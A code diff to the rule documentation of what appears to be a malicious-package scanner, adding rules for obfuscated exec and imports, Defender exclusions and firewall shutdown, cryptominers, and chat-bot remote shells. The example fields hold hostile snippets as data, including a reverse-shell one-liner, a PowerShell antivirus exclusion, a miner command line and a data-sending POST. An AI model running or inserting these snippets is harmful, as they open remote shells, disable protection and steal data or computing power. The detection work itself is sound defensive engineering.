@@ -34,7 +34,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'egress',
     severity: 'info',
     catches:
-      'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, the network handlers of logging, Telegram and Discord bot libraries, webbrowser with data built into the URL, connect and send of the C library through ctypes, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts, and for a beacon (a request with a body, or a DNS query, to a named host from code that runs by itself); raised one level for import-time code and two for install or startup code. A host the file never writes (decoded or assembled) is high.',
+      "A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, the network handlers of logging, Telegram and Discord bot libraries, webbrowser with data built into the URL, connect and send of the C library through ctypes, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts, and for a beacon (a request with a body, or a DNS query, to a named host from code that runs by itself); raised one level for import-time code and two for install or startup code. A host the file never writes (decoded or assembled) is high. Not reported: a Unix socket, getaddrinfo with AI_NUMERICHOST (it parses an address and asks no server), and requests calls inside a function decorated with @responses.activate or a `with responses.RequestsMock():` block that lets nothing through (no passthru). A library's private modules count as the library (httpx._client.Client is httpx.Client).",
     example: 'requests.post("https://collector.example/v1", json=data)',
     falsePositives:
       "HTTP clients and SDKs call the network by design; at call time these stay info or low. A chat bot reached with the user's own token (tqdm's Telegram bar) and a DNS lookup of an IP literal (no query is sent) are not shady.",
@@ -293,8 +293,18 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'dynamic-code',
     severity: 'high',
     catches:
-      'exec/eval/compile reached through getattr(__builtins__, "ex"+"ec"), globals()["eval"], __import__("builtins").exec and the like.',
+      'exec/eval/compile reached through getattr(__builtins__, "ex"+"ec"), globals()["eval"], __import__("builtins").exec and the like; __import__, getattr and open fetched from a namespace by a name spelt out of chr() codes or joined fragments (getattr(globals()["__builtins__"], "".join(chr(c) for c in [95, 95, ...]))).',
     example: 'getattr(__builtins__, "ex" + "ec")(src)',
+    falsePositives: 'None known.',
+  },
+  {
+    id: 'spelt-from-table',
+    name: 'Name spelt from a character table',
+    family: 'dynamic-code',
+    severity: 'high',
+    catches:
+      '__import__, import_module, getattr, exec, eval, compile or open given a name or code spelt one character at a time from a lookup table (`T[1] + T[8] + T[13] + T[0]`), so neither readers nor scanners see what is imported or called. Critical in code that runs at install, start-up or import.',
+    example: '__import__(self._byte[1] + self._byte[8] + self._byte[13] + self._byte[0])',
     falsePositives: 'None known.',
   },
   {
@@ -369,6 +379,26 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     falsePositives:
       'System administration tools; shell-completion installers a user runs (typer, userpath: low); lexers listing shell file names (pygments: low).',
   },
+  {
+    id: 'defense-evasion',
+    name: 'Antivirus or firewall turned off',
+    family: 'process',
+    severity: 'high',
+    catches:
+      'A string that adds a Microsoft Defender exclusion or turns a protection off (Add-MpPreference -ExclusionPath, Set-MpPreference -DisableRealtimeMonitoring, DisableAntiSpyware) or turns the Windows firewall off (netsh advfirewall set ... state off): what a dropper does before it runs its payload. Critical in code that runs at install, start-up or import.',
+    example: 'subprocess.run(["powershell", "-Command", f"Add-MpPreference -ExclusionPath \'{path}\'"])',
+    falsePositives: 'Endpoint-management tools that configure Defender on purpose (none on the benign set).',
+  },
+  {
+    id: 'cryptominer',
+    name: 'Cryptocurrency miner',
+    family: 'process',
+    severity: 'high',
+    catches:
+      "A mining pool address (stratum+tcp://, well-known Monero pools) or XMRig options (--cpu-max-threads-hint, --donate-level) in a string: the machine's processors put to work for someone else. Critical in code that runs at install, start-up or import.",
+    example: '"winupdate.exe --url rx.unmineable.com:3333 --cpu-max-threads-hint 75"',
+    falsePositives: 'Packages that are miners or miner front-ends by design (none on the benign set).',
+  },
   // install-time hooks
   {
     id: 'install-hook-cmdclass',
@@ -437,9 +467,10 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives.',
+      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell.',
     example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
-    falsePositives: 'Remote-debugging and terminal-sharing tools.',
+    falsePositives:
+      "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design).",
   },
   {
     id: 'keylogger',
